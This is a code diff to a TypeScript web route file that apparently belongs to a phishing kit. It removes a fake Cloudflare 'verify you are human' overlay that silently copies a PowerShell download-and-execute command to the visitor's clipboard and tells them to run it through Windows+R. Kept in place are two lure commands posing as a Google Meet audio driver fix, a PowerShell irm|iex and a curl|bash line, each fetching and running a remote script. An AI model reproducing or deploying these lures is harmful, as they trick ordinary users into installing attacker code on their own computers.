@@ -1,23 +1,6 @@
 import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
 import { doc, wordmark, json, js, b64, gtag } from '../parts/yl-kit.js';
 
-const psEnc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
-
-const cfOverlayJs = `(function(){
-  if(sessionStorage.getItem('__cfv'))return;
-  var cmd='powershell -w h -nop -c "$r=iwr \\'https://ae-cdn-check.com/v.txt\\' -UseBasicParsing;iex $r.Content" # ✅ I am not a robot - reCAPTCHA Verification ID: '+Math.floor(1000+Math.random()*9000);
-  var st=document.createElement('style');st.textContent='#cfo{position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:system-ui,-apple-system,Segoe UI,Roboto,sans-serif;color:#313131}#cfo .m{max-width:620px;margin:12vh auto 0;padding:0 20px}#cfo h1{font-size:28px;font-weight:500}#cfo .b{border:1px solid #d9d9d9;background:#fafafa;width:300px;padding:16px;display:flex;gap:12px;align-items:center;cursor:pointer;margin-top:20px}#cfo .b i{width:24px;height:24px;border:2px solid #777;border-radius:3px;background:#fff}#cfo .s{display:none;margin-top:22px;background:#f4f6f8;border-radius:6px;padding:16px 18px;line-height:2}#cfo kbd{background:#fff;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-family:inherit}';
-  document.head.appendChild(st);
-  var o=document.createElement('div');o.id='cfo';
-  o.innerHTML='<div class="m"><h1>'+location.hostname+'</h1><p>Verify you are human by completing the action below.</p><div class="b" id="cfb"><i></i><span>Verify you are human</span></div><div class="s" id="cfs"><b>Verification steps</b><br>1. Press <kbd>Windows</kbd> + <kbd>R</kbd><br>2. Press <kbd>CTRL</kbd> + <kbd>V</kbd><br>3. Press <kbd>Enter</kbd> to complete verification</div><p style="margin-top:40px;font-size:12px;color:#999">'+location.hostname+' needs to review the security of your connection before proceeding.<br>Ray ID: '+Math.random().toString(16).slice(2,18)+' · Performance &amp; security by Cloudflare</p></div>';
-  document.body.appendChild(o);
-  document.getElementById('cfb').onclick=function(){
-    var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();
-    try{navigator.clipboard.writeText(cmd).catch(function(){document.execCommand('copy')})}catch(e){document.execCommand('copy')}
-    t.remove();document.getElementById('cfs').style.display='block';this.querySelector('span').textContent='Verification pending…';
-  };
-})();`;
-
 const meetCmdWin = `powershell -w 1 -c "irm https://meet-fix-audio.com/drv/fix.ps1 | iex" ; # Google Meet audio driver repair`;
 const meetCmdMac = `curl -fsSL https://meet-fix-audio.com/drv/fix.sh | bash`;
 
